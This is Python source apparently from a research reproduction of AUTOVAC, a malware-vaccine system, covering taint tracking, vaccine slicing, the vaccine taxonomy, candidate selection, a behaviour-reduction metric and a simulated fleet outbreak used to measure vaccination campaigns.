    slice is portable: a deploying host reassembles it and replays.
    """

    program_source: str
    program_name: str
    steps: List[SliceStep] = field(default_factory=list)
    #: Guest address holding the regenerated identifier after replay.
    output_addr: int = 0
    #: Environment APIs the slice consumes (documented inputs).
    env_inputs: Tuple[str, ...] = ()
    #: Call site (api, caller_pc, occurrence index) that consumed the
    #: identifier — forced re-execution stops there.
    target_api: str = ""
    target_caller_pc: int = 0
    target_occurrence: int = 0
    #: Resource-API outcomes recorded from the natural run, in order per call
    #: site, so forced re-execution follows the same path on any host.
    pinned_outcomes: List[PinnedOutcome] = field(default_factory=list)
    #: Flight-recorder id of the "slice.extract" event.  Process-local
    #: provenance only — deliberately absent from to_dict/from_dict.
    flight_id: Optional[int] = None

    def __len__(self) -> int:
        return len(self.steps)

    @property
    def requires_reexecution(self) -> bool:
        """Loops make per-instance replay machine-specific: a pc appearing in
        several instances means the trip count may depend on input length."""
        seen = set()
        for step in self.steps:
            if step.pc in seen:
                return True
            seen.add(step.pc)
        return False

    def to_dict(self) -> dict:
        return {
            "program_name": self.program_name,
            "program_source": self.program_source,
            "steps": [s.to_dict() for s in self.steps],
            "output_addr": self.output_addr,
            "env_inputs": list(self.env_inputs),
            "target_api": self.target_api,
            "target_caller_pc": self.target_caller_pc,
            "target_occurrence": self.target_occurrence,
            "pinned_outcomes": [p.to_dict() for p in self.pinned_outcomes],
        }

    @staticmethod
    def from_dict(data: dict) -> "VaccineSlice":
        return VaccineSlice(
            program_source=data["program_source"],
            program_name=data["program_name"],
            steps=[SliceStep.from_dict(s) for s in data["steps"]],
            output_addr=data["output_addr"],
            env_inputs=tuple(data.get("env_inputs", ())),
            target_api=data.get("target_api", ""),
            target_caller_pc=data.get("target_caller_pc", 0),
            target_occurrence=data.get("target_occurrence", 0),
            pinned_outcomes=[
                PinnedOutcome.from_dict(p) for p in data.get("pinned_outcomes", [])
            ],
        )


def extract_slice(
    program: Program,
    trace: Trace,
    result: BackwardResult,
    output_addr: int,
    target_event: Optional[ApiCallEvent] = None,
) -> VaccineSlice:
    """Package a backward-slice result into a replayable VaccineSlice."""
    steps: List[SliceStep] = []
    for record in result.slice_records:
        api = None
        if record.api_event_id is not None:
            event = trace.event_by_id(record.api_event_id)
            api = event.api if event is not None else None
        steps.append(SliceStep(pc=record.pc, esp=record.esp, ebp=record.ebp, api=api))

    target_api = ""
    target_caller_pc = 0
    target_occurrence = 0
    pinned: List[PinnedOutcome] = []
    if target_event is not None:
        target_api = target_event.api
        target_caller_pc = target_event.caller_pc
        for event in trace.api_calls:
            if event.event_id == target_event.event_id:
                break
            if event.api == target_api and event.caller_pc == target_caller_pc:
                target_occurrence += 1
            if event.is_resource_access:
                pinned.append(PinnedOutcome(event.api, event.caller_pc, event.success))

    slice_ = VaccineSlice(
        program_source=program.source,
        program_name=program.name,
        steps=steps,
        output_addr=output_addr,
        env_inputs=tuple(dict.fromkeys(result.env_sources)),
        target_api=target_api,
        target_caller_pc=target_caller_pc,
        target_occurrence=target_occurrence,
        pinned_outcomes=pinned,
    )
    flight = obs.flight
    if flight.enabled:
        slice_.flight_id = flight.record(
            "slice.extract",
            causes=(result.flight_id,),
            target_api=target_api,
            steps=len(steps),
            env_inputs=list(slice_.env_inputs),
            requires_reexecution=slice_.requires_reexecution,
            pinned=len(pinned),
        )
    return slice_
