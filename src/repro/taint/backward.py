"""Backward taint tracking over a recorded trace (paper §IV-C).

Starting from the bytes of a resource identifier at the moment the labelled
API consumed it, walk the instruction trace backward collecting every
execution instance that contributed to those bytes, until all remaining
demands terminate at a *root cause*:

* a read-only / initialized-data byte (``.rdata``/``.data``) → **static**,
* a never-defined location (zeroed stack, zeroed register) → **constant**,
* an API pseudo-step → classified by the API's taint class
  (``GetComputerNameA`` → deterministic environment input;
  ``GetTickCount`` → random).

The result doubles as the *dynamic program slice* for the identifier
generation logic: replaying the included instances (with esp/ebp pinned to
their recorded values) on another machine regenerates the identifier there —
the paper's Inspector-Gadget-style vaccine slice.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from .. import obs
from ..tracing.events import ApiCallEvent, InstructionRecord
from ..tracing.trace import Trace
from ..winapi.labels import REGISTRY
from .labels import TaintClass

#: Register/flag locations never chased (stack discipline is pinned instead).
_UNCHASED = {("reg", "esp"), ("reg", "ebp"), ("flags",)}


@dataclass
class BackwardResult:
    """Outcome of one backward walk."""

    #: Execution instances (forward order) contributing to the identifier.
    slice_records: List[InstructionRecord] = field(default_factory=list)
    #: APIs (by name) acting as deterministic environment sources.
    env_sources: List[str] = field(default_factory=list)
    #: APIs acting as random sources.
    random_sources: List[str] = field(default_factory=list)
    #: APIs acting as resource-data sources (file/registry contents).
    resource_sources: List[str] = field(default_factory=list)
    #: Demanded locations that terminated in read-only/initialized data.
    static_terminals: int = 0
    #: Demanded locations that terminated as never-written (zero constants).
    constant_terminals: int = 0
    #: Flight-recorder id of this walk's "slice.walk" event (process-local).
    flight_id: Optional[int] = None

    @property
    def has_env_sources(self) -> bool:
        return bool(self.env_sources)

    @property
    def has_random_sources(self) -> bool:
        return bool(self.random_sources or self.resource_sources)

    @property
    def is_pure_static(self) -> bool:
        return not self.env_sources and not self.has_random_sources


def identifier_locations(event: ApiCallEvent) -> Set[Tuple]:
    """Byte locations of the identifier string at call time."""
    addr = event.extra.get("identifier_addr")
    if addr is None or event.identifier is None:
        return set()
    return {("mem", addr + i) for i in range(len(event.identifier))}


def backward_slice(
    trace: Trace,
    event: ApiCallEvent,
    memory=None,
    start_locations: Optional[Set[Tuple]] = None,
) -> BackwardResult:
    """Backward taint tracking + dynamic slicing for ``event``'s identifier.

    ``memory`` (the CPU memory after the run) is used only to classify
    terminal addresses as read-only; pass ``cpu.memory``.
    """
    result = BackwardResult()
    workset: Set[Tuple] = set(start_locations or identifier_locations(event))
    if not workset:
        return result
    if not trace.instructions:
        raise ValueError("trace has no instruction records; run with record_instructions=True")

    # Index of the consuming API step; the walk starts just before it.
    start_idx = len(trace.instructions)
    for i, record in enumerate(trace.instructions):
        if record.api_event_id == event.event_id:
            start_idx = i
            break

    picked: List[InstructionRecord] = []
    source_event_ids: List[int] = []
    for record in reversed(trace.instructions[:start_idx]):
        defs = set(record.defs)
        if not (defs & workset):
            continue
        picked.append(record)
        workset -= defs
        if record.api_event_id is not None:
            source = trace.event_by_id(record.api_event_id)
            klass = _api_class(source.api if source else "")
            if klass is TaintClass.ENV_DETERMINISTIC:
                result.env_sources.append(source.api)
                source_event_ids.append(record.api_event_id)
            elif klass is TaintClass.RANDOM:
                result.random_sources.append(source.api)
                source_event_ids.append(record.api_event_id)
            elif klass is TaintClass.RESOURCE:
                result.resource_sources.append(source.api)
                source_event_ids.append(record.api_event_id)
        # Note: uses are added *after* removing defs so read-modify-write
        # instructions (``add dst, src``) correctly chase dst's previous def.
        for use in record.uses:
            if use in _UNCHASED:
                continue
            workset.add(use)

    for location in workset:
        if location[0] == "mem" and memory is not None and memory.is_readonly(location[1]):
            result.static_terminals += 1
        elif location[0] == "mem" and _in_initialized_data(location[1]):
            result.static_terminals += 1
        else:
            result.constant_terminals += 1

    picked.reverse()
    result.slice_records = picked

    flight = obs.flight
    if flight.enabled:
        causes = [flight.recall(("api", event.event_id))]
        causes.extend(
            flight.recall(("api", source_id)) for source_id in source_event_ids
        )
        result.flight_id = flight.record(
            "slice.walk",
            causes=tuple(dict.fromkeys(c for c in causes if c is not None)),
            identifier=event.identifier,
            records=len(picked),
            env_sources=list(dict.fromkeys(result.env_sources)),
            random_sources=list(dict.fromkeys(result.random_sources)),
            resource_sources=list(dict.fromkeys(result.resource_sources)),
            static_terminals=result.static_terminals,
            constant_terminals=result.constant_terminals,
        )
    return result


def _api_class(api_name: str) -> Optional[TaintClass]:
    apidef = REGISTRY.get(api_name)
    return apidef.taint_class if apidef is not None else None


def _in_initialized_data(addr: int) -> bool:
    from ..vm.memory import DATA_BASE, RDATA_BASE

    return RDATA_BASE <= addr < RDATA_BASE + 0x10000 or DATA_BASE <= addr < DATA_BASE + 0x10000
