"""Taint label model.

Every labelled API call that produces data mints a :class:`TaintTag`; tags
flow with the data through the VM.  Three classes matter to AUTOVAC:

* ``RESOURCE`` — the result of a resource-access API (``OpenMutex`` …).
  Phase I flags a sample when a branch predicate carries one of these.
* ``ENV_DETERMINISTIC`` — stable machine inputs (``GetComputerName`` …).
  Determinism analysis classifies identifiers built from these as
  *algorithm-deterministic*.
* ``RANDOM`` — per-run entropy (``GetTickCount``, ``GetTempFileName`` …).
  Identifier bytes carrying only these are unpredictable.

Tag sets are ``frozenset`` so they can be unioned cheaply and shared.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import FrozenSet, Iterable


class TaintClass(enum.Enum):
    RESOURCE = "resource"
    ENV_DETERMINISTIC = "env"
    RANDOM = "random"


@dataclass(frozen=True)
class TaintTag:
    """Provenance of one datum: which API call event produced it."""

    event_id: int
    api: str
    klass: TaintClass

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"Tag({self.api}#{self.event_id}:{self.klass.value})"


TagSet = FrozenSet[TaintTag]

#: The empty tag set — the common case, interned for speed.
EMPTY: TagSet = frozenset()


def union(*tagsets: TagSet) -> TagSet:
    """Union of tag sets, avoiding allocation when possible."""
    nonempty = [t for t in tagsets if t]
    if not nonempty:
        return EMPTY
    if len(nonempty) == 1:
        return nonempty[0]
    out = set()
    for t in nonempty:
        out |= t
    return frozenset(out)


def has_class(tags: TagSet, klass: TaintClass) -> bool:
    return any(tag.klass is klass for tag in tags)


def has_resource_taint(tags: TagSet) -> bool:
    return has_class(tags, TaintClass.RESOURCE)


def classes_of(tagsets: Iterable[TagSet]) -> FrozenSet[TaintClass]:
    seen = set()
    for tags in tagsets:
        for tag in tags:
            seen.add(tag.klass)
    return frozenset(seen)
