"""Vaccination-campaign simulation (paper §I and §II "Use Case of Vaccines").

"If we were able to generate vaccines for a piece of malware, we would have
been able to prevent it from infecting a wider range of machines
(considering the case of botnets). … If we can capture the binary at the
initial infection stage, we can quickly generate vaccines and protect our
uninfected machines from the attacks."

This module makes that story measurable: a fleet of simulated machines, a
worm that actually *executes* on each machine it reaches (infection succeeds
only if the sample completes its infection logic there), and a vaccination
campaign deployed at some round to some coverage.  The output is the
infection curve — the epidemiological view of what a vaccine buys.
"""

from __future__ import annotations

import random
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, List, Optional, Sequence

if TYPE_CHECKING:  # pragma: no cover - typing only
    from .core.policy import TemporalApiPolicy

from . import obs
from .core.runner import run_sample
from .delivery.engine import RuleEngine
from .delivery.package import VaccinePackage, deploy
from .vm.program import Program
from .winenv.environment import MachineIdentity, SystemEnvironment


@dataclass
class FleetMachine:
    """One host in the fleet."""

    name: str
    environment: SystemEnvironment
    infected: bool = False
    vaccinated: bool = False
    infected_round: Optional[int] = None
    #: The shared rule engine the machine's protection was compiled from —
    #: campaign accounting attributes blocked attempts through it, with the
    #: exact matching semantics the daemon enforced.
    enforcement: Optional[RuleEngine] = None


@dataclass
class RoundStats:
    round: int
    infected: int
    vaccinated: int
    newly_infected: int


@dataclass
class CampaignResult:
    history: List[RoundStats] = field(default_factory=list)
    machines: List[FleetMachine] = field(default_factory=list)

    @property
    def final_infection_rate(self) -> float:
        if not self.machines:
            return 0.0
        return sum(m.infected for m in self.machines) / len(self.machines)

    @property
    def peak_new_infections(self) -> int:
        return max((r.newly_infected for r in self.history), default=0)

    def infected_at(self, round_index: int) -> int:
        for stats in self.history:
            if stats.round == round_index:
                return stats.infected
        return 0


class Fleet:
    """A set of simulated machines reachable by a propagating worm."""

    def __init__(self, size: int, seed: int = 0) -> None:
        self.rng = random.Random(seed)
        self.machines: List[FleetMachine] = []
        for i in range(size):
            identity = MachineIdentity(computer_name=f"FLEET-{i:03d}")
            env = SystemEnvironment(identity=identity, rng_seed=seed * 1000 + i)
            self.machines.append(FleetMachine(name=identity.computer_name, environment=env))

    def vaccinate(self, package: VaccinePackage, coverage: float = 1.0,
                  only_uninfected: bool = True,
                  policies: Sequence["TemporalApiPolicy"] = ()) -> int:
        """Deploy the package to a fraction of the fleet (uninfected hosts
        first — the paper's 'protect our uninfected machines' scenario).
        ``policies`` ride along in each host's daemon; the fleet shares one
        compiled attribution engine."""
        eligible = [
            m for m in self.machines
            if not m.vaccinated and (not m.infected or not only_uninfected)
        ]
        engine = RuleEngine.compile(vaccines=package.vaccines, policies=policies)
        count = int(round(coverage * len(eligible)))
        for machine in self.rng.sample(eligible, min(count, len(eligible))):
            deploy(package, machine.environment, policies=policies)
            machine.vaccinated = True
            machine.enforcement = engine
        return count


def attempt_infection(worm: Program, machine: FleetMachine, max_steps: int = 200_000) -> bool:
    """Run the worm on the machine for real; infection = the sample completes
    its infection logic (doesn't self-terminate at a vaccine/marker check)."""
    run = run_sample(
        worm,
        environment=machine.environment,
        record_instructions=False,
        max_steps=max_steps,
        clone_environment=False,  # infections persist on the machine
    )
    # Terminated == bailed at a check (marker present / vaccine hit).
    infected = not run.trace.terminated
    obs.metrics.counter("campaign.infection_attempts").inc()
    obs.metrics.counter(
        "campaign.infections" if infected else "campaign.attempts_blocked"
    ).inc()
    if not infected and machine.enforcement is not None:
        # Attribute the block through the same engine the daemon enforced:
        # the first worm access a rule matches names the artifact that
        # stopped the infection (vaccine vs policy, per resource type).
        t0 = time.perf_counter() if obs.prof.enabled else 0.0
        for event in run.trace.api_calls:
            rule = machine.enforcement.match(
                event.resource_type, event.identifier, event.operation
            )
            if rule is not None:
                obs.metrics.counter(
                    "campaign.blocked_by",
                    origin=rule.origin,
                    resource=rule.resource_type.value,
                ).inc()
                break
        if obs.prof.enabled:
            obs.prof.add("rules;campaign", time.perf_counter() - t0)
    return infected


def build_fleet_package(
    captured: Sequence[Program],
    jobs: int = 1,
    cache=None,
    config=None,
    description: str = "fleet vaccination campaign",
) -> VaccinePackage:
    """The paper's response loop, made fast: binaries captured at the
    initial infection stage go through the population executor (``jobs``
    worker processes, optional result cache) and every extracted vaccine is
    packaged for fleet-wide rollout via :meth:`Fleet.vaccinate`."""
    from .core.executor import PipelineConfig, analyze_population

    result = analyze_population(
        list(captured),
        config=config if config is not None else PipelineConfig(),
        jobs=jobs,
        cache=cache,
    )
    return VaccinePackage(vaccines=result.vaccines, description=description)


def simulate_outbreak(
    worm: Program,
    fleet: Fleet,
    rounds: int = 8,
    initial_infections: int = 1,
    contacts_per_infected: int = 2,
    vaccine_package: Optional[VaccinePackage] = None,
    vaccinate_at_round: int = 2,
    coverage: float = 1.0,
    max_steps: int = 200_000,
) -> CampaignResult:
    """Discrete-round outbreak: each infected machine attacks
    ``contacts_per_infected`` random peers per round.  Optionally deploy a
    vaccination campaign at ``vaccinate_at_round`` (the paper's 'capture the
    binary at the initial infection stage, quickly generate vaccines')."""
    result = CampaignResult(machines=fleet.machines)

    def _record_round(stats: RoundStats) -> None:
        result.history.append(stats)
        # Epidemic gauges per tick — the live view of the infection curve.
        obs.metrics.gauge("campaign.round").set(stats.round)
        obs.metrics.gauge("campaign.infected").set(stats.infected)
        obs.metrics.gauge("campaign.vaccinated").set(stats.vaccinated)
        obs.metrics.counter("campaign.new_infections").inc(stats.newly_infected)

    seeds = fleet.rng.sample(fleet.machines, min(initial_infections, len(fleet.machines)))
    newly = 0
    for machine in seeds:
        if attempt_infection(worm, machine, max_steps=max_steps):
            machine.infected = True
            machine.infected_round = 0
            newly += 1
    _record_round(RoundStats(
        round=0,
        infected=sum(m.infected for m in fleet.machines),
        vaccinated=sum(m.vaccinated for m in fleet.machines),
        newly_infected=newly,
    ))

    for round_index in range(1, rounds + 1):
        if vaccine_package is not None and round_index == vaccinate_at_round:
            fleet.vaccinate(vaccine_package, coverage=coverage)

        attackers = [m for m in fleet.machines if m.infected]
        newly = 0
        for attacker in attackers:
            peers = [m for m in fleet.machines if m is not attacker]
            targets = fleet.rng.sample(peers, min(contacts_per_infected, len(peers)))
            for target in targets:
                if target.infected:
                    continue
                if attempt_infection(worm, target, max_steps=max_steps):
                    target.infected = True
                    target.infected_round = round_index
                    newly += 1
        _record_round(RoundStats(
            round=round_index,
            infected=sum(m.infected for m in fleet.machines),
            vaccinated=sum(m.vaccinated for m in fleet.machines),
            newly_infected=newly,
        ))
    return result
