"""Vaccine model and taxonomy (paper §II-A).

A vaccine is a specific system resource (plus how to manipulate it) that
immunizes a machine against one malware sample.  The taxonomy axes:

* **identifier kind** — static / partial static / algorithm-deterministic
  (non-deterministic identifiers are discarded);
* **immunization effect** — full, or partial Types I–IV;
* **mechanism** — simulate the resource's presence vs enforce failure of the
  malware's access;
* **delivery** — one-time direct injection vs vaccine daemon.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import FrozenSet, Optional, Tuple

from ..taint.slicing import VaccineSlice
from ..winenv.filesystem import normalize_path
from ..winenv.objects import Operation, ResourceType
from ..winenv.registry import normalize_key


class IdentifierKind(enum.Enum):
    STATIC = "static"
    PARTIAL_STATIC = "partial_static"
    ALGORITHM_DETERMINISTIC = "algorithm_deterministic"
    NON_DETERMINISTIC = "non_deterministic"


class Immunization(enum.Enum):
    FULL = "full"
    TYPE_I_KERNEL = "disable_kernel_injection"
    TYPE_II_NETWORK = "disable_massive_network"
    TYPE_III_PERSISTENCE = "disable_persistence"
    TYPE_IV_INJECTION = "disable_process_injection"
    NONE = "none"

    @property
    def is_partial(self) -> bool:
        return self not in (Immunization.FULL, Immunization.NONE)


class Mechanism(enum.Enum):
    """How the vaccine flips the malware's resource check."""

    SIMULATE_PRESENCE = "simulate_presence"   # make the check find the marker
    ENFORCE_FAILURE = "enforce_failure"       # make the access fail


class DeliveryKind(enum.Enum):
    DIRECT_INJECTION = "direct_injection"
    DAEMON = "daemon"


def normalize_identifier(rtype: ResourceType, identifier: str) -> str:
    """Canonical identifier form per resource type."""
    if rtype is ResourceType.FILE:
        return normalize_path(identifier)
    if rtype is ResourceType.REGISTRY:
        return normalize_key(identifier)
    if rtype in (ResourceType.SERVICE, ResourceType.LIBRARY, ResourceType.PROCESS):
        return identifier.lower()
    return identifier  # mutex / window names are case-sensitive


@dataclass
class Vaccine:
    """A generated vaccine for one (malware, resource) pair."""

    malware: str
    resource_type: ResourceType
    identifier: str
    identifier_kind: IdentifierKind
    mechanism: Mechanism
    immunization: Immunization
    operations: FrozenSet[Operation] = frozenset()
    #: Regex (anchored) for partial-static identifiers.
    pattern: Optional[str] = None
    #: Replayable generation slice for algorithm-deterministic identifiers.
    slice: Optional[VaccineSlice] = None
    #: APIs through which the malware touched the resource.
    apis: Tuple[str, ...] = ()
    #: Behaviour decreasing ratio measured during validation (§VI-E).
    bdr: Optional[float] = None
    notes: str = ""

    @property
    def delivery(self) -> DeliveryKind:
        """Deployment route (paper §V): static identifiers are injected
        directly; partial-static and algorithm-deterministic ones need the
        daemon — except an ENFORCE_FAILURE on files/registry, which direct
        injection handles by planting an access-locked decoy resource."""
        if self.resource_type is ResourceType.PROCESS:
            return DeliveryKind.DAEMON
        if self.identifier_kind is IdentifierKind.STATIC:
            if self.mechanism is Mechanism.SIMULATE_PRESENCE:
                return DeliveryKind.DIRECT_INJECTION
            if self.resource_type in (ResourceType.FILE, ResourceType.REGISTRY):
                return DeliveryKind.DIRECT_INJECTION
            return DeliveryKind.DAEMON
        return DeliveryKind.DAEMON

    @property
    def is_full_immunization(self) -> bool:
        return self.immunization is Immunization.FULL

    def describe(self) -> str:
        return (
            f"[{self.malware}] {self.resource_type.value}:{self.identifier!r} "
            f"{self.identifier_kind.value}/{self.mechanism.value} -> "
            f"{self.immunization.value} ({self.delivery.value})"
        )

    # -- serialization (delivery packages) ---------------------------------

    def to_dict(self) -> dict:
        return {
            "malware": self.malware,
            "resource_type": self.resource_type.value,
            "identifier": self.identifier,
            "identifier_kind": self.identifier_kind.value,
            "mechanism": self.mechanism.value,
            "immunization": self.immunization.value,
            "operations": sorted(op.value for op in self.operations),
            "pattern": self.pattern,
            "slice": self.slice.to_dict() if self.slice else None,
            "apis": list(self.apis),
            "bdr": self.bdr,
            "notes": self.notes,
        }

    @staticmethod
    def from_dict(data: dict) -> "Vaccine":
        """Decode a vaccine payload.  Raises :class:`ValueError` naming the
        offending field on missing keys or unknown enum values — a corrupt
        package should say *what* is corrupt, not dump a ``KeyError``."""

        def _required(key: str):
            try:
                return data[key]
            except KeyError:
                raise ValueError(f"vaccine payload missing field {key!r}") from None

        def _enum(enum_cls, key: str, value):
            try:
                return enum_cls(value)
            except ValueError:
                raise ValueError(
                    f"vaccine field {key!r} has unknown value {value!r}"
                ) from None

        return Vaccine(
            malware=_required("malware"),
            resource_type=_enum(ResourceType, "resource_type", _required("resource_type")),
            identifier=_required("identifier"),
            identifier_kind=_enum(
                IdentifierKind, "identifier_kind", _required("identifier_kind")
            ),
            mechanism=_enum(Mechanism, "mechanism", _required("mechanism")),
            immunization=_enum(Immunization, "immunization", _required("immunization")),
            operations=frozenset(
                _enum(Operation, "operations", o) for o in data.get("operations", [])
            ),
            pattern=data.get("pattern"),
            slice=VaccineSlice.from_dict(data["slice"]) if data.get("slice") else None,
            apis=tuple(data.get("apis", ())),
            bdr=data.get("bdr"),
            notes=data.get("notes", ""),
        )
