"""Phase I — candidate selection (paper §III).

Profile the sample in a normal environment, taint resource-API results,
propagate, and flag the sample iff some branch predicate consumed
resource-derived data.  Output: the normal-run trace plus the list of
candidate resources (grouped by resource type + normalized identifier) that
can affect the malware's control flow.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from .. import obs
from ..taint.labels import TaintClass
from ..tracing.events import ApiCallEvent
from ..tracing.trace import Trace
from ..vm.program import Program
from ..winenv.environment import SystemEnvironment
from ..winenv.objects import Operation, ResourceType
from .runner import DEFAULT_BUDGET, RunResult, run_sample
from .vaccine import normalize_identifier


@dataclass
class CandidateResource:
    """One resource whose access result reaches malware branch logic."""

    resource_type: ResourceType
    identifier: str
    operations: Set[Operation] = field(default_factory=set)
    apis: Set[str] = field(default_factory=set)
    event_ids: List[int] = field(default_factory=list)
    #: True when a predicate consumed this resource's taint.
    influences_control_flow: bool = False
    #: True when some access to this resource failed in the normal run.
    had_failure: bool = False

    @property
    def key(self) -> Tuple[ResourceType, str]:
        return (self.resource_type, self.identifier)


@dataclass
class CandidateReport:
    """Phase-I output for one sample."""

    program_name: str
    trace: Trace
    run: RunResult
    candidates: List[CandidateResource] = field(default_factory=list)
    #: Resource-API occurrences whose taint reached a predicate (paper: 80.3%).
    influential_occurrences: int = 0
    total_occurrences: int = 0

    @property
    def has_vaccine_potential(self) -> bool:
        """The Phase-I filter: no resource-dependent branch → no vaccine."""
        return any(c.influences_control_flow for c in self.candidates)

    def candidate(self, rtype: ResourceType, identifier: str) -> Optional[CandidateResource]:
        norm = normalize_identifier(rtype, identifier)
        for c in self.candidates:
            if c.resource_type is rtype and c.identifier == norm:
                return c
        return None


def select_candidates(
    program: Program,
    environment: Optional[SystemEnvironment] = None,
    max_steps: int = DEFAULT_BUDGET,
    record_instructions: bool = True,
    taint_addresses: bool = False,
) -> CandidateReport:
    """Run Phase I on one sample.

    ``taint_addresses`` enables the pointer-taint policy (see
    :class:`~repro.vm.cpu.CPU`) — catches table-lookup taint laundering at
    the cost of over-tainting.
    """
    run = run_sample(
        program,
        environment=environment,
        max_steps=max_steps,
        record_instructions=record_instructions,
        taint_addresses=taint_addresses,
    )
    return analyze_trace(program.name, run)


def analyze_trace(program_name: str, run: RunResult) -> CandidateReport:
    """Candidate extraction from an already-collected normal run."""
    trace = run.trace
    influential_ids = _influential_event_ids(trace)

    grouped: Dict[Tuple[ResourceType, str], CandidateResource] = {}
    influential_occurrences = 0
    total = 0
    for event in trace.resource_events():
        if event.identifier is None:
            continue
        total += 1
        if event.event_id in influential_ids or _origin_influential(event, influential_ids):
            influential_occurrences += 1
        identifier = normalize_identifier(event.resource_type, event.identifier)
        key = (event.resource_type, identifier)
        cand = grouped.get(key)
        if cand is None:
            cand = CandidateResource(resource_type=event.resource_type, identifier=identifier)
            grouped[key] = cand
        if event.operation is not None:
            cand.operations.add(event.operation)
        cand.apis.add(event.api)
        cand.event_ids.append(event.event_id)
        if event.event_id in influential_ids:
            cand.influences_control_flow = True
        if not event.success:
            cand.had_failure = True

    # Handle-based accesses (ReadFile …) influence the resource opened
    # earlier; propagate the influence to the opening identifier.
    for event in trace.resource_events():
        origin = event.extra.get("origin_event")
        if origin is None or event.event_id not in influential_ids:
            continue
        for cand in grouped.values():
            if origin in cand.event_ids:
                cand.influences_control_flow = True

    report = CandidateReport(
        program_name=program_name,
        trace=trace,
        run=run,
        candidates=sorted(
            grouped.values(), key=lambda c: (c.resource_type.value, c.identifier)
        ),
        influential_occurrences=influential_occurrences,
        total_occurrences=total,
    )
    flight = obs.flight
    if flight.enabled:
        for cand in report.candidates:
            causes = []
            for event_id in cand.event_ids[:8]:
                causes.append(flight.recall(("api", event_id)))
                causes.append(flight.recall(("predicate_for", event_id)))
            flight_id = flight.record(
                "candidate",
                causes=tuple(dict.fromkeys(c for c in causes if c is not None)),
                resource=cand.resource_type.value,
                identifier=cand.identifier,
                influences_control_flow=cand.influences_control_flow,
                had_failure=cand.had_failure,
                apis=sorted(cand.apis),
            )
            flight.remember(
                ("candidate", cand.resource_type.value, cand.identifier), flight_id
            )
    return report


def _influential_event_ids(trace: Trace) -> Set[int]:
    """Events whose RESOURCE taint reached any cmp/test predicate."""
    ids: Set[int] = set()
    for predicate in trace.predicates:
        for tag in predicate.tags:
            if tag.klass is TaintClass.RESOURCE:
                ids.add(tag.event_id)
    return ids


def _origin_influential(event: ApiCallEvent, influential_ids: Set[int]) -> bool:
    origin = event.extra.get("origin_event")
    return origin is not None and origin in influential_ids
