"""Behavior Decreasing Ratio (paper §VI-E).

``BDR = (Nn - Nd) / Nn`` where ``Nn`` counts native calls in the normal
environment and ``Nd`` in the vaccine-deployed environment.  Larger is a
stronger reduction of malware activity.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Sequence

from ..delivery.package import VaccinePackage, deploy
from ..vm.program import Program
from ..winenv.environment import SystemEnvironment
from .runner import run_sample
from .vaccine import Vaccine

#: The paper's effect runs last 5 minutes vs 1 minute for profiling; we scale
#: the instruction budget accordingly.
EFFECT_BUDGET = 500_000


@dataclass
class BdrResult:
    program_name: str
    calls_normal: int
    calls_vaccinated: int
    #: Did the vaccinated run terminate the malware?
    vaccinated_terminated: bool

    @property
    def bdr(self) -> float:
        if self.calls_normal == 0:
            return 0.0
        return (self.calls_normal - self.calls_vaccinated) / self.calls_normal


def measure_bdr(
    program: Program,
    vaccines: Sequence[Vaccine],
    environment: Optional[SystemEnvironment] = None,
    max_steps: int = EFFECT_BUDGET,
) -> BdrResult:
    """Run the sample in normal and vaccinated environments; compare calls."""
    base = environment if environment is not None else SystemEnvironment()

    normal = run_sample(
        program, environment=base, max_steps=max_steps, record_instructions=False
    )

    vaccinated_env = base.clone()
    deploy(VaccinePackage(vaccines=list(vaccines)), vaccinated_env)
    vaccinated = run_sample(
        program,
        environment=vaccinated_env,
        max_steps=max_steps,
        record_instructions=False,
        clone_environment=False,
    )

    return BdrResult(
        program_name=program.name,
        calls_normal=len(normal.trace.api_calls),
        calls_vaccinated=len(vaccinated.trace.api_calls),
        vaccinated_terminated=vaccinated.trace.terminated,
    )
