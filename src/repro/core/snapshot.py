"""Snapshot-resume checkpoints for Phase-II impact analysis.

The paper's dominant cost is re-executing the sample once per candidate
mutation (§IV-B): every mutated run replays the full natural prefix up to
the first API call that touches the mutated resource, then diverges.  A
:class:`VmSnapshot` captures the complete guest state — VM machine state
plus the Windows environment — at exactly that first interception site, so
each mutated run resumes from the checkpoint and pays only for the
divergent suffix: O(candidates × suffix) instead of O(candidates × trace).

Why capture at intercept time is sound: the dispatcher resolves arguments
and identifiers *before* consulting interceptors, and that pre-intercept
phase only reads guest state.  Rewinding ``pc`` to the call site and the
step/event-id counters to the call's own values therefore reproduces the
call bit-for-bit when the resumed run re-executes it — this time with the
mutation interceptor attached, which fires on the identical
:func:`mutation_matches` predicate the recorder used.

State is split two ways:

* **VM machine state** (registers, flags, sparse memory, call stack, the
  event log so far) is shallow-copied — dict/list copies over immutable
  ints, frozen TagSets and already-final events.
* **Guest environment state** (filesystem, registry, mutexes, the process
  and its handle table, the RNG mid-sequence) is captured as a structured
  :class:`~repro.winenv.snapshot.EnvSnapshot`: plain-data rows walked once
  at capture, rebuilt per resume via real constructors, with
  handle→resource identity preserved through an explicit id-map — no
  pickle round-trip on either side.  ``SystemEnvironment.clone()`` cannot
  be used here: it reseeds the RNG and drops handle tables, both of which
  only reset correctly at process spawn, not mid-run.

The legacy one-blob ``pickle.dumps((environment, process))`` capture is
kept behind a config flag (``REPRO_SNAPSHOT_PICKLE=1`` or
:func:`pickle_env_overridden`) as a fallback and an equivalence oracle —
``tests/test_env_snapshot.py`` pins that both paths and the legacy full
rerun produce byte-identical analyses.

A capture that fails (e.g. an unpicklable global interceptor on the
fallback path) degrades to the legacy full-rerun path per candidate —
never to a wrong answer.
"""

from __future__ import annotations

import itertools
import os
import pickle
import time
from contextlib import contextmanager
from dataclasses import dataclass
from typing import TYPE_CHECKING, Dict, Iterator, List, Optional, Tuple

from .. import obs
from ..taint.labels import TagSet
from ..tracing.events import ApiCallEvent, TaintedPredicateEvent
from ..tracing.trace import Trace
from ..vm.cpu import CPU
from ..vm.memory import Memory
from ..winapi.dispatcher import Interception
from ..winenv.snapshot import EnvSnapshot
from .vaccine import normalize_identifier

if TYPE_CHECKING:  # pragma: no cover - annotations only
    from ..winapi.labels import ApiDef
    from .candidate import CandidateResource

_log = obs.get_logger("snapshot")

